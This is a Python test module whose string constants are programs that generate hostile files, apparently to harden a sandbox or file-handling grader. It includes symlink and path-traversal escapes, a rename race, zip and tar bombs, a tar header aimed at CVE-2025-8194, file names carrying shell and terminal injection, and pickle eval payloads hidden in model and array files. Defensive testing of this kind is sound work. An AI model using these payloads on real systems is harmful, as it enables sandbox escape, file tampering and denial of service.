"""What `payloads` runs inside: programs that make hostile files. Each finds `args` set."""

from __future__ import annotations

OUTWARDS = r"""
import contextlib, os
for number, target in enumerate(args[0]):
    with contextlib.suppress(OSError):
        os.symlink(target, str(number))
    with contextlib.suppress(OSError):
        os.link(target, f"hard{number}")
os.symlink("../" * 20, "up")
"""

SWAPPER = r"""
import contextlib, os, threading

def swap():
    for number, target in enumerate(targets):
        os.symlink(target, f"away{number}")
    while True:
        for name in ["own", *[f"away{n}" for n in range(len(targets))]]:
            with contextlib.suppress(OSError):
                os.rename(name, "here")
                os.rename("here", name)

threading.Thread(target=swap, daemon=True).start()
"""
"""Finds `targets` set."""

SPECIAL = r"""
import contextlib, os, socket, stat
made = []

def make(name, how):
    with contextlib.suppress(OSError):
        how(name)
        made.append(name)

make("submission.csv", os.mkfifo)
make("socket", lambda name: socket.socket(socket.AF_UNIX).bind(name))
make("zero", lambda name: os.mknod(name, stat.S_IFCHR | 0o666, os.makedev(1, 5)))
make("disk", lambda name: os.mknod(name, stat.S_IFBLK | 0o666, os.makedev(8, 0)))
make("folder.json", os.mkdir)
make("sparse", lambda name: open(name, "wb").truncate(2**40))
make("sparse_as_allowed", lambda name: open(name, "wb").truncate(50 * 2**20))
make("endless", lambda name: os.symlink("/dev/zero", name))
make("loop", lambda name: os.symlink("loop", name))
print("made", ", ".join(made))
"""

GROWER = r"""
import threading

def grow():
    while True:
        with open("log", "wb", buffering=0) as file:
            for _ in range(60):
                file.write(bytes(2**20 // 2))

threading.Thread(target=grow, daemon=True).start()
"""

DEEP = r"""
import os
depth = 0
try:
    for depth in range(1200):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    open("x", "w").write("at the bottom")
except OSError:
    pass
print(depth + 1)
"""

MANY = r"""
count = 0
try:
    for count in range(30_000):
        open(f"{count}", "w").close()
except OSError:
    pass
print(count)
"""

NAMES = r"""
import os
names = [
    b"new\nline", b"\x1b[2J\x1b]0;title\x07", b"\x1b]52;c;aGVsbG8=\x07", b"-rf", b"--checkpoint",
    b"\xff\xfe", b"*", b"$(id)", b"`id`", b"a b", b"...", b"\\", b"\xe2\x80\xaegpj.exe", b"x" * 255,
    b"<img src=x onerror=alert(1)>", b"![](http:", b"\r", b"%s%n", b"C:\\x", b"\xc3\xa9" * 127,
]
for name in names:
    with open(b"./" + name, "wb") as file:
        file.write(b"x")
print(*[name.hex() for name in names])
"""

FORBIDDEN = r"""
import os
for folder in (".", "folder", "dark"):
    os.makedirs(folder, exist_ok=True)
    with open(f"{folder}/file", "w") as file:
        file.write("x")
os.chmod("file", 0)
os.chmod("folder/file", 0o200)
os.chmod("dark", 0)
"""

DOCUMENTS = r"""
files = {
    "deep_lists": "[" * 100_000,
    "deep_and_closed": "[" * 100_000 + "]" * 100_000,
    "deep_objects": '{"a":' * 100_000,
    "nan": '{"score": NaN}',
    "infinity": '{"score": Infinity}',
    "hidden_infinity": '{"score": 1e999}',
    "two_scores": '{"score": 0.0, "score": 1.0}',
    "digits": "9" * 1_000_000,
    "surrogate": '{"score": "\\ud800"}',
    "large": "[" + "0," * 2_000_000 + "0]",
    "utf16": "1.0".encode("utf-16"),
    "empty": "",
}
for name, content in files.items():
    with open(name, "wb") as file:
        file.write(content if isinstance(content, bytes) else content.encode())
"""

ARCHIVES = r"""
import io, struct, tarfile, zipfile, zlib
target = args[0][0]

with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    with archive.open("bomb", "w") as file:
        for _ in range(200):
            file.write(bytes(2**20))
pack = zlib.compressobj(9, zlib.DEFLATED, 31)
with open("bomb.tar.gz", "wb") as file:
    for _ in range(200):
        file.write(pack.compress(bytes(2**20)))
    file.write(pack.flush())

def zipped(name, members, mode=0, method=zipfile.ZIP_STORED):
    with zipfile.ZipFile(name, "w") as archive:
        for member in members:
            info = zipfile.ZipInfo(member)
            info.external_attr, info.compress_type = mode << 16, method
            archive.writestr(info, target)

zipped("up.zip", ["../" * 20 + target.lstrip("/")])
zipped("absolute.zip", [target])
zipped("link.zip", ["link"], mode=0o120777)
zipped("lzma.zip", ["x"], method=zipfile.ZIP_LZMA)
zipped("many.zip", [str(n) for n in range(12_000)])

plain = open("up.zip", "rb").read().replace(b"../", b"aaa").replace(b"/", b"b")
end = plain.rfind(b"PK\5\6")
begin = plain.rfind(b"PK\1\2", 0, end)
entry, tail = plain[begin:end], bytearray(plain[end:])
more = b"".join(entry.replace(b"aaaaaa", b"%06d" % n, 1) for n in range(500))
struct.pack_into("<HHI", tail, 8, 501, 501, len(entry) + len(more))
struct.pack_into("<I", tail, 16, begin)
with open("overlapping.zip", "wb") as file:
    file.write(plain[:begin] + entry + more + bytes(tail))

def tarred(name, member, kind=tarfile.REGTYPE, link="", **fields):
    info = tarfile.TarInfo(member)
    info.type, info.linkname = kind, link
    for field, value in fields.items():
        setattr(info, field, value)
    with tarfile.open(name, "w") as archive:
        archive.addfile(info, io.BytesIO())

tarred("up.tar", "../" * 20 + target.lstrip("/"))
tarred("absolute.tar", target)
tarred("link.tar", "link", tarfile.SYMTYPE, target)
tarred("hard.tar", "hard", tarfile.LNKTYPE, target)
tarred("pipe.tar", "pipe", tarfile.FIFOTYPE)
tarred("device.tar", "disk", tarfile.BLKTYPE, devmajor=8)

def header(kind, size):
    raw = bytearray(tarfile.TarInfo("x").tobuf()[:512])
    raw[156:157], raw[124:136] = kind, size
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw)
    return bytes(raw)

with open("backwards.tar", "wb") as file:  # CVE-2025-8194: back to where it came from
    file.write(header(b"0", b"\xff" * 10 + b"\xfe\0"))
with open("headers.tar", "wb") as file:  # one recursion for each
    file.write(header(b"L", b"00000000000\0") * 40_000)
"""

PICKLES = r"""
import io, pickle, struct, zipfile
target = args[0]

class Payload:
    def __reduce__(self):
        return (eval, (f"open({target!r}, 'w').write('changed by code in a file')",))

code = pickle.dumps(Payload())

def save(name, data):
    with open(name, "wb") as file:
        file.write(data)

def npy(header, body=b""):
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + body

save("results.pkl", code)
save("objects.npy", npy(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n", code))
shape = b"(1099511627776, 1099511627776)"
save("huge.npy", npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': " + shape + b", }\n"))
save("brackets.npy", npy(b"(" * 60_000))
call = b"{'descr': '<f8', 'fortran_order': False, 'shape': open('" + target.encode() + b"','w'), }"
save("call.npy", npy(call))
with zipfile.ZipFile("objects.npz", "w") as archive:
    archive.writestr("a.npy", open("objects.npy", "rb").read())
with zipfile.ZipFile("model.pt", "w") as archive:  # as torch.save writes it
    archive.writestr("archive/data.pkl", code)
    archive.writestr("archive/version", "3\n")
save("old_model.pt", pickle.dumps(0x1950A86A20F9469CFC6C) + pickle.dumps(1001) + code)
save("long.safetensors", struct.pack("<Q", 2**63) + b"{}")
header = b'{"a":{"dtype":"F64","shape":[1152921504606846976,16],"data_offsets":[0,8]}}'
save("huge.safetensors", struct.pack("<Q", len(header)) + header + bytes(8))
header = b'{"a":{"dtype":"F64","shape":[2],"data_offsets":[0,16]}}'
save("outside.safetensors", struct.pack("<Q", len(header)) + header + bytes(8))
"""
